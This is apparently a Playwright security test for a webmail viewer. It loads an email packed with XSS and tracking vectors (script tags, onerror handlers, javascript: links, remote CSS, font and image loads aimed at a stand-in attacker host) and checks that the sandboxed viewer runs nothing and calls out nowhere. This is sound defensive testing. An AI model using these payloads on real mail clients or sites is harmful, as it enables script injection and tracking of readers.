/** A message that attacks who looks at it, in a real browser: nothing of it runs, and nothing is fetched from anywhere. */
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { maildirWith } from '../messages/stored.ts';
import { freePorts } from '../support/free-port.ts';
import { tempFolder, writeStore } from '../support/temp-home.ts';
import { has } from '../support/tools.ts';
import { until } from '../support/until.ts';
import { whatRan } from './in-page.js';
import { openBrowser, ServedPage } from './scene.ts';

/** All ways that we know of to run something, or to be heard of, from within HTML. `THEM` is the attacker's host and port. */
const ATTACKS = `
<base href="http://THEM/base/">
<link rel="preconnect" href="http://THEM"><link rel=dns-prefetch href="http://THEM"><LINK REL="stylesheet" HREF="http://THEM/link.css">
<link/rel=prefetch href=http://THEM/prefetch><link rel=icon href=http://THEM/icon><link rel=modulepreload href=http://THEM/m.js>
<meta http-equiv="refresh" content="0;url=http://THEM/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<script>top.ran = 1; document.title = 'ran'; fetch('http://THEM/fetch')</script><script src="http://THEM/x.js"></script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://THEM/spec"]}]}</script>
<img src="http://THEM/img" onerror="top.ran = 1"><img srcset="http://THEM/srcset 2x"><picture><source srcset=http://THEM/source><img></picture>
<img src=x onerror="top.location='http://THEM/top'"><img src="/history"><img src="/app.js">
<svg onload="top.ran = 1"><image href="http://THEM/svg"/><use href="http://THEM/use#x"/><script>top.ran = 1</script></svg>
<iframe src="http://THEM/frame"></iframe><iframe srcdoc="<script>top.ran = 1</script><img src=http://THEM/srcdoc>"></iframe>
<object data="http://THEM/object"></object><embed src="http://THEM/embed"><video src="http://THEM/video" poster="http://THEM/poster" autoplay></video>
<audio src="http://THEM/audio" autoplay></audio><track src="http://THEM/track"><input type=image src="http://THEM/input">
<style>@import "http://THEM/import.css"; @font-face { font-family: x; src: url(http://THEM/font) } p { font-family: x; background: url(http://THEM/css) }
  a[href] { background-image: image-set(url("http://THEM/set") 1x) } body { cursor: url(http://THEM/cursor), auto }</style>
<body background="http://THEM/body" onload="top.ran = 1"><table background="http://THEM/table"><tr><td>x</table>
<form action="http://THEM/form" method=post><input name=a value=1 autofocus onfocus="top.ran = 1"><button id=send>Send</button></form>
<a id=away href="http://THEM/link" ping="http://THEM/ping">away</a> <a id=blank href="http://THEM/blank" target=_blank>new</a>
<a id=top href="http://THEM/top" target=_top>top</a> <a id=script href="javascript:top.ran=1">script</a>
<details open ontoggle="top.ran = 1">x</details><marquee onstart="top.ran = 1">m</marquee>
<p id=seen style="color: rgb(1, 2, 3)">You see this</p>
`;

describe.runIf(has('chromium'))('a message that attacks', () => {
  let browser: Browser;
  let served: ServedPage;
  let them: Server;
  let theirs: string;
  /** Connections that came to the attacker. */
  const came: string[] = [];

  beforeAll(async () => {
    them = createServer((socket) => {
      came.push('connected');
      socket.on('error', () => {});
      socket.on('data', (bytes) => {
        came.push(String(bytes).split('\r\n')[0]!);
        socket.destroy();
      });
    });
    them.listen(0, '127.0.0.1');
    await once(them, 'listening');
    theirs = `127.0.0.1:${(them.address() as { port: number }).port}`;
    const home = tempFolder('hostile');
    const [smtp, web] = await freePorts(2);
    writeStore(home, [{ Name: '<img src=x onerror=alert(1)>', Bindings: [`127.0.0.1:${smtp}`] }]);
    const html = ATTACKS.replaceAll('THEM', theirs);
    const head = `Return-Path: <a@b.org>\nDelivered-To: c@d.org\nFrom: "<img src=x onerror=top.ran=1>" <a@b.org>\n`;
    maildirWith(
      [
        `${head}Subject: </title><script>top.ran=1</script>attack\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n` +
          `--b\nContent-Type: text/html\n\n${html}\n` +
          `--b\nContent-Type: text/html\nContent-Disposition: attachment; filename="<b>../x.html"\n\n${html}\n--b--\n`,
      ],
      join(home, 'mail'),
    );
    [served, browser] = await Promise.all([ServedPage.start(home, `127.0.0.1:${web}`), openBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await served?.stop();
    them?.close();
  });

  test('nothing runs, nothing is fetched, nobody is called; what is to be read is there', async () => {
    const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    const page = await context.newPage();
    page.setDefaultTimeout(30_000);
    const asked: string[] = [];
    const dialogs: string[] = [];
    // What a policy refuses is told as a request too, but nothing answers it; the trap sees who was called
    page.on('response', (response) => asked.push(response.url()));
    page.on('dialog', (dialog) => dialogs.push(dialog.message()));
    await page.goto(`${served.url}#token=${served.token}`);
    await page.waitForSelector('.state[data-state=live]');
    await page.getByRole('link', { name: 'Messages' }).click();
    await page.getByRole('link', { name: /attack$/ }).click();
    await page.getByRole('tab', { name: 'HTML' }).waitFor();
    await page.getByRole('tab', { name: 'HTML' }).click();
    asked.length = 0;
    const frame = page.frameLocator('iframe.mail-frame');
    await frame.getByText('You see this').waitFor();
    expect(await page.locator('iframe.mail-frame').getAttribute('sandbox')).toBe('');
    // Links and buttons lead nowhere
    const url = page.url();
    for (const id of ['away', 'blank', 'top', 'script', 'send'])
      await frame
        .locator(`#${id}`)
        .click({ timeout: 3000 })
        .catch(() => {});
    // What a browser does later, it has done by then: the source, which is asked for afterwards, is there
    await page.getByRole('tab', { name: 'Source' }).click();
    await page.getByRole('tabpanel').getByText('speculationrules').waitFor();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: /^Save .*x\.html$/ }).click();
    expect((await download).suggestedFilename()).toBe('x.html');
    const ran = await page.evaluate(whatRan);
    expect([ran[0], String(ran[1])]).toEqual([undefined, expect.stringContaining('<script>')]);
    expect([page.url(), dialogs, came]).toEqual([url, [], []]);
    expect(context.pages()).toHaveLength(1);
    expect(
      asked.filter(
        (one) =>
          !/\/(?:frame\?ticket=|ticket$|part\?)/.test(one) && !one.startsWith('blob:') && !one.startsWith('data:'),
      ),
    ).toEqual([]);
    await context.close();
  });

  test('the trap works: the same HTML by itself does call', async () => {
    const page = await browser.newPage();
    await page
      .setContent(`<img src="http://${theirs}/img"><link rel=preconnect href="http://${theirs}">`)
      .catch(() => {});
    await until('it called', () => came.length > 0);
    await page.close();
  });
});
